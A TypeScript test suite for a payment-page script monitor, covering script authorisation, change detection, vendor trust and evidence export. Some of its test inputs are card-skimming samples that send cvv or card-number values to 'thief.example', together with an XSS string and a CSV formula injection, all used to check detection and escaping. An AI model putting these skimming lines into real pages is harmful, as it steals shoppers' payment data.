import { createHash } from 'node:crypto';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { openBrowser } from '#engines/browser/open-browser.ts';
import { productFiles } from '#engines/files/product-files.ts';
import { readEntries } from '#engines/ledger/verify-ledger.ts';
import { openTestHouse, type TestHouse } from '#engines/testing/open-test-house.ts';
import type { Scope } from '#engines/verb.ts';
import type { ShopId } from '#kernel/ids.ts';
import { DAY } from '#kernel/time.ts';
import { registerShop } from '#registry/index.ts';
import { serveRooms } from '#web/testing/serve-rooms.ts';
import { goldenInspection, got } from '../checks/golden-inspection.ts';
import { goldenHost, goldenPayment, goldenScript } from '../checks/payment/golden-payment.ts';
import {
  authoriseScripts,
  finishInspection,
  rejectScripts,
  setPaymentWay,
  startInspection,
  tidySources,
  trustVendor,
  withdrawAuthorisation,
} from '../index.ts';
import type { PaymentPage, Script } from '../inspection.ts';
import { readOpenFindings } from '../read-overview.ts';
import { routes } from '../routes.tsx';
import { inspectTables } from '../store.ts';
import { evidenceToCsv } from './evidence-to-csv.ts';
import { keepSources } from './keep-sources.ts';
import { keyToken } from './key-token.ts';
import { readAuthorised } from './read-authorised.ts';
import { readEvidence } from './read-evidence.ts';
import { readInventory } from './read-inventory.ts';
import { vendorOf } from './vendor-of.ts';

let house: TestHouse;
let scope: Scope;
let shop: ShopId;
const START = new Date('2026-03-01T03:00:00Z');

beforeAll(async () => {
  house = await openTestHouse((folder) => ({ browser: openBrowser({ cacheFolder: folder }) }));
});
afterAll(() => house[Symbol.asyncDispose]());
beforeEach(async () => {
  house.setNow(START);
  scope = house.scope(house.newOrg(), 'owner');
  ({ shop } = await newShop(scope));
});

const newShop = (on: Scope, url = 'https://shop.example.com') =>
  registerShop(on, {
    ...{ name: 'Shop', url, platform: 'generic', allowPrivate: false, timeZone: 'UTC', country: 'PL' },
    contact: { name: 'Care', address: 'care@shop.example', phone: '555' },
    privacyContact: { name: 'Officer', address: 'officer@shop.example' },
  });

const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
const APP = 'https://shop.example.com/js/app.3f2a9c1d.js';
const CHAT = 'https://cdn.chat.example/widget.js';
const CHAT_SOURCE = 'function chat(){var el=document.createElement("script");el.src="https://cdn.chat.example/more.js"}';

type Sources = Readonly<Record<string, string>>;

/** A payment page with these scripts, by address; an address that starts with `inline` is one in the page itself. */
function pageOf(scripts: Sources, change: Partial<PaymentPage> = {}): PaymentPage {
  const list = Object.entries(scripts).map(([url, source]): Script => {
    const made = url.startsWith('inline');
    const shape = sha256(source.replace(/\d+/g, '0'));
    const party = made ? 'inline' : url.startsWith('https://shop.') ? 'first' : 'third';
    return goldenScript({
      url: made ? 'https://shop.example.com/checkout' : url,
      party,
      hash: sha256(source),
      shape,
      bytes: source.length,
    });
  });
  return goldenPayment({
    headers: { 'content-security-policy': `script-src 'nonce-${Math.floor(START.getTime() / 7)}'`, 'x-frame-options': 'DENY' },
    ...{ scripts: list, sources: Object.fromEntries(Object.values(scripts).map((source) => [sha256(source), source])) },
    hosts: [goldenHost('cdn.chat.example')],
    ...change,
  });
}

/** One look a day later; returns what is open of the payment page’s scripts, hosts and headers. */
async function look(page: PaymentPage, on = shop): Promise<string[]> {
  house.advance(DAY);
  const now = house.clock.now();
  const authorised = await house.state.inOrg(scope.org, (db) => readAuthorised(db, scope.org, on, now));
  const inspection = goldenInspection({ payment: got(page), authorised, startedAt: now.toISOString() });
  const machine = house.scope(scope.org);
  const { run } = await startInspection(machine, { shop: on, queue: false });
  const sources = await keepSources(machine, inspection);
  await finishInspection(machine, { run, inspection, artifact: 'none', elapsedMs: 1, sources });
  const open = await house.state.inOrg(scope.org, (db) => readOpenFindings(db, scope.org, on));
  return open.filter((one) => /^payment-(scripts|hosts|headers)$/.test(one.check_id)).map((one) => `${one.severity} ${one.key}`);
}

const standings = async () => {
  const { scripts } = await house.state.inOrg(scope.org, (db) => readInventory(db, scope.org, shop, house.clock.now()));
  return Object.fromEntries(scripts.map((row) => [row.key, row.standing]));
};
const appKey = 'https://shop.example.com/js/app.*.js';
const first = { [APP]: 'app(1)', [CHAT]: CHAT_SOURCE, inline: 'var visit = 17;' };

describe('the inventory of a payment page', () => {
  it('follows a script from new to authorised, changed, gone, back, and rejected', async () => {
    expect(await look(pageOf(first))).toEqual([]);
    const counts = await authoriseScripts(scope, {
      shop,
      items: [
        { kind: 'script', key: appKey, reason: 'our own checkout' },
        { kind: 'script', key: CHAT, reason: 'help while paying' },
        { kind: 'host', key: 'cdn.chat.example', reason: 'serves the chat' },
      ],
      owner: 'support',
    });
    expect(counts).toEqual({ scripts: 2, hosts: 1, headers: 0 });
    expect((await look(pageOf(first))).map((line) => line.split(':')[0])).toEqual([
      ...['medium inline', 'low content-security-policy', 'low x-frame-options'],
    ]);
    await authoriseScripts(scope, { shop, reason: 'everything else' });
    expect(
      await look(
        pageOf(
          { ...first, inline: 'var visit = 18;' },
          { headers: { 'content-security-policy': "script-src 'nonce-other'", 'x-frame-options': 'DENY' } },
        ),
      ),
    ).toEqual([]);
    const stolen = `${CHAT_SOURCE}fetch("https://thief.example/c",{method:"POST",body:cvv.value})`;
    expect(await look(pageOf({ ...first, [CHAT]: stolen }))).toEqual([`medium ${CHAT}`]);
    expect((await standings())[CHAT]).toBe('changed');
    expect(await look(pageOf(first))).toEqual([]);
    expect(await look(pageOf({ [APP]: 'app(1)', inline: 'var visit = 19;' }))).toEqual([`low gone ${CHAT}`]);
    expect((await standings())[CHAT]).toBe('removed');
    expect(await look(pageOf(first, { partial: 'it took too long' }))).toEqual([`low gone ${CHAT}`]);
    expect(await look(pageOf(first))).toEqual([]);
    await rejectScripts(scope, { shop, items: [{ kind: 'script', key: CHAT }], reason: 'the contract has ended' });
    expect(await look(pageOf(first))).toEqual([`high ${CHAT}`]);
    await withdrawAuthorisation(scope, { shop, items: [{ kind: 'script', key: CHAT }], reason: 'looked again' });
    expect(await standings()).toMatchObject({ [CHAT]: 'returned', [appKey]: 'authorised' });
    const changes = (await entries('inspect.inventory-changed')).flatMap(
      (entry) => (entry as { changes: { what: string; key: string; adds?: string[] }[] }).changes,
    );
    expect(changes.filter(({ key }) => key === CHAT).map(({ what }) => what)).toEqual(['changed', 'removed', 'returned']);
    expect(changes[0]?.adds).toEqual(['host:thief.example', 'does:fetch', 'does:typed', 'field:cvc']);
  });

  it('follows the releases of a bundle, and rings for none when its changes are trusted', async () => {
    await look(pageOf({ [APP]: 'app(1)' }));
    await authoriseScripts(scope, { shop, reason: 'our own bundle' });
    const next = 'https://shop.example.com/js/app.77b1e0aa.js';
    expect(await look(pageOf({ [next]: 'app(2);pay()' }))).toEqual([`low ${appKey}`]);
    await authoriseScripts(scope, { shop, items: [{ kind: 'script', key: appKey }], reason: 'our own bundle', trustChanges: true });
    expect(await look(pageOf({ 'https://shop.example.com/js/app.90c2f1bb.js': 'app(3);pay();more()' }))).toEqual([]);
    expect((await standings())[appKey]).toBe('trusted');
    const versions = await rowsOf();
    expect(versions.map(({ url }) => url.split('/').at(-1))).toEqual(['app.3f2a9c1d.js', 'app.77b1e0aa.js', 'app.90c2f1bb.js']);
    expect(new Set(versions.map(({ artifact }) => artifact)).size).toBe(3);
  });

  it('does not ring for values that are new at every visit, but for a host that is', async () => {
    const tag = (stamp: number, host: string) => `window.stamp=${stamp};send("https://${host}/t")`;
    await look(pageOf({ [CHAT]: tag(1, 'cdn.chat.example') }));
    await authoriseScripts(scope, { shop, reason: 'measures' });
    expect(await look(pageOf({ [CHAT]: tag(2, 'cdn.chat.example') }))).toEqual([]);
    const other = pageOf({ [CHAT]: tag(3, 'cdn.thief.example') });
    const sameShape = pageOf({ [CHAT]: tag(1, 'cdn.chat.example') }).scripts[0]?.shape ?? '';
    expect(await look({ ...other, scripts: other.scripts.map((script) => ({ ...script, shape: sameShape })) })).toEqual([`medium ${CHAT}`]);
  });

  it('trusts a vendor with what it changes and adds, until a day', async () => {
    await look(pageOf(first));
    await authoriseScripts(scope, { shop, reason: 'as it is' });
    await expect(trustVendor(scope, { shop, domain: 'shop.example.com', trusted: true, reason: 'ourselves' })).rejects.toMatchObject({
      code: 'INPUT_INVALID',
    });
    await trustVendor(scope, {
      shop,
      domain: 'cdn.chat.example',
      trusted: true,
      reason: 'their contract',
      until: new Date('2026-03-05T00:00:00Z'),
    });
    expect(vendorOf('https://d111.cloudfront.net/a.js')).toBe('d111.cloudfront.net');
    const more = { ...first, [CHAT]: 'changed()', 'https://api.chat.example/new.js': 'fresh()' };
    const hosts = [goldenHost('api.chat.example')];
    expect(await look(pageOf(more, { hosts }))).toEqual([]);
    house.setNow(new Date('2026-03-06T00:00:00Z'));
    const open = await look(pageOf(more, { hosts }));
    expect(open).toEqual(
      expect.arrayContaining(['low expired vendor chat.example', 'high api.chat.example', 'high https://api.chat.example/new.js']),
    );
  });

  it('asks again when an authorisation has ended, and tells of headers that went or changed', async () => {
    await look(pageOf(first));
    await authoriseScripts(scope, { shop, reason: 'for the season', until: new Date('2026-03-04T00:00:00Z') });
    expect(await look(pageOf(first))).toEqual([]);
    const headers = { 'x-frame-options': 'SAMEORIGIN', 'access-control-allow-origin': '*' };
    expect(await look(pageOf(first, { headers }))).toEqual(
      expect.arrayContaining([
        'high content-security-policy',
        'medium x-frame-options',
        'medium access-control-allow-origin',
        `low expired script ${CHAT}`,
      ]),
    );
    expect((await standings())[CHAT]).toBe('expired');
  });
});

describe('sources', () => {
  it('are kept once, packed, and go with the last version that names them', async () => {
    const { shop: twin } = await newShop(scope, 'https://twin.example.com');
    await look(pageOf(first));
    await look(pageOf({ [CHAT]: CHAT_SOURCE }), twin);
    const all = await rowsOf(null);
    expect(new Set(all.filter((row) => row.key === CHAT).map((row) => row.artifact)).size).toBe(1);
    const artifact = all.find((row) => row.key === CHAT)?.artifact ?? '';
    expect(
      Buffer.from(await house.artifacts.load(scope.org, artifact))
        .subarray(0, 2)
        .toString('hex'),
    ).toBe('1f8b');
    await look(pageOf({ [APP]: 'app(1)' }));
    house.advance(401 * DAY);
    const machine = house.scope(scope.org);
    expect((await tidySources(machine, {})).artifacts).toHaveLength(1);
    expect(await rowsOf()).toHaveLength(1);
    await look(pageOf({}), twin);
    house.advance(401 * DAY);
    expect((await tidySources(machine, {})).artifacts).toEqual([artifact]);
    await house.artifacts.remove(scope.org, artifact);
    await expect(house.artifacts.load(scope.org, artifact)).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await house.artifacts.remove(scope.org, artifact);
  });
});

describe('pages', () => {
  const app = () => serveRooms(productFiles, () => scope, { '/inspect': routes() });
  const post = (path: string, form: Record<string, string>) => app().request(path, { method: 'POST', body: new URLSearchParams(form) });

  it('show what a changed script now names, and its source only as text', async () => {
    await look(pageOf(first));
    await authoriseScripts(scope, { shop, reason: 'as it is' });
    await look(
      pageOf({
        ...first,
        [CHAT]: `${CHAT_SOURCE};new Image().src="https://thief.example/i?"+btoa(card_number.value);"</script><script>alert(1)</script>"`,
      }),
    );
    const at = `/inspect/shops/${shop}/scripts/${keyToken(CHAT)}`;
    const html = await (await app().request(at)).text();
    expect(html).toContain('This script has changed since it was authorised');
    expect(html).toContain('names the host thief.example');
    expect(html).toMatch(/<li class="added">.*?new Image\(\)\.src/s);
    expect(html).not.toContain('<script>alert(1)');
    expect((await app().request(`/inspect/shops/${shop}/scripts/${'0'.repeat(24)}`)).status).toBe(404);
    expect((await post(`${at}/authorise`, { reason: ' ' })).status).toBe(400);
    expect((await post(`${at}/authorise`, { reason: 'looked at the change', owner: 'support' })).status).toBe(303);
    expect((await standings())[CHAT]).toBe('authorised');
    const stranger = house.scope(house.newOrg(), 'owner');
    const theirs = serveRooms(productFiles, () => stranger, { '/inspect': routes() });
    expect((await theirs.request(at)).status).toBe(404);
  }, 30_000);

  it('take several decisions with a reason each, and change nothing when one is missing', async () => {
    await look(pageOf(first));
    const at = `/inspect/shops/${shop}/inventory`;
    const items = {
      'item.0': `script ${CHAT}`,
      'pick.0': 'yes',
      'why.0': 'help while paying',
      'item.1': `script ${appKey}`,
      'pick.1': 'yes',
      'item.2': 'host cdn.chat.example',
    };
    expect((await post(`${at}/authorise`, items)).status).toBe(400);
    expect(await standings()).toMatchObject({ [CHAT]: 'new', [appKey]: 'new' });
    expect((await post(`${at}/authorise`, { ...items, reason: 'our own' })).status).toBe(303);
    expect(await standings()).toMatchObject({ [CHAT]: 'authorised', [appKey]: 'authorised' });
    expect(await entries('inspect.scripts-authorised')).toMatchObject([
      { reason: 'help while paying', scripts: 1 },
      { reason: 'our own', scripts: 1, hosts: 0 },
    ]);
    expect((await post(`${at}/authorise`, {})).status).toBe(400);
    for (const domain of ['nonsense..', 'co.uk', '127.0.0.1', 'www.example.com', '<b>', 'cdn.jsdelivr.net', 'www.googletagmanager.com']) {
      const refused = await post(`${at}/vendor`, { domain, reason: 'their contract' });
      expect(refused.status, domain).toBe(400);
      expect(await refused.text()).toContain('role="alert"');
    }
    expect((await post(`${at}/vendor`, { domain: 'https://js.stripe.com/v3', reason: 'their contract' })).status).toBe(303);
    expect((await post(`${at}/vendor`, { domain: 'stripe.com', end: 'yes', reason: 'their contract ended' })).status).toBe(303);
    expect((await entries('inspect.vendor-trust-changed')).map((entry) => (entry as { domain: string }).domain)).toEqual([
      'stripe.com',
      'stripe.com',
    ]);
    expect((await app().request(at)).status).toBe(200);
  }, 30_000);
});

describe('evidence', () => {
  it('names every look, decision and change, and leaves as PDF, CSV and JSON with its hash in the ledger', async () => {
    await look(pageOf({ ...first, '=HYPERLINK("https://thief.example")': 'x()' }));
    await authoriseScripts(scope, { shop, reason: 'as it is, "quoted", told' });
    await look(pageOf(first));
    house.advance(9 * DAY);
    await look(pageOf(first, { status: 503 }));
    await setPaymentWay(scope, { shop, paysBy: 'iframe' });
    const evidence = await readEvidence(scope, shop, START, new Date('2026-04-01T00:00:00Z'));
    expect(evidence.looks.map(({ result }) => result)).toEqual(['not-seen', 'found', 'unknown']);
    expect(evidence.longestGapDays).toBe(10);
    expect(evidence).toMatchObject({
      rule: { form: 'SAQ A', duty: 'criterion' },
      acts: [{ what: 'authorised', reason: 'as it is, "quoted", told' }],
    });
    expect(evidence.changes.map(({ what }) => what)).toContain('removed');
    const csv = evidenceToCsv(evidence);
    expect(csv).toContain('"as it is, ""quoted"", told"');
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
    const app = serveRooms(productFiles, () => scope, { '/inspect': routes() });
    for (const format of ['pdf', 'csv', 'json']) {
      const body = new URLSearchParams({ from: '2026-03-01', to: '2026-03-31', format });
      const answer = await app.request(`/inspect/shops/${shop}/evidence`, { method: 'POST', body });
      const bytes = Buffer.from(await answer.arrayBuffer());
      expect(answer.status).toBe(200);
      if (format === 'pdf') expect(bytes.subarray(0, 5).toString()).toBe('%PDF-');
      if (format === 'json')
        expect(JSON.parse(bytes.toString())).toMatchObject({ schema: 'shopbell.payment-evidence/1', longestGapDays: 10 });
      expect((await entries('inspect.evidence-exported')).at(-1)).toMatchObject({
        format,
        sha256: createHash('sha256').update(bytes).digest('hex'),
      });
    }
    const wrong = new URLSearchParams({ from: '2026-03-31', to: '2026-03-01', format: 'csv' });
    expect((await app.request(`/inspect/shops/${shop}/evidence`, { method: 'POST', body: wrong })).status).toBe(400);
  }, 60_000);
});

async function entries(kind: string): Promise<unknown[]> {
  const all = await house.state.inOrg(scope.org, (db) => readEntries(db, scope.org, 0, 1_000));
  return all.filter((entry) => entry.kind === kind).map((entry) => entry.payload);
}

async function rowsOf(of: ShopId | null = shop) {
  const rows = await house.state.inOrg(scope.org, (db) =>
    inspectTables(db).selectFrom('inspect_script_versions').selectAll().where('org_id', '=', scope.org).orderBy('first_seen').execute(),
  );
  return of === null ? rows : rows.filter((row) => row.shop_id === of);
}
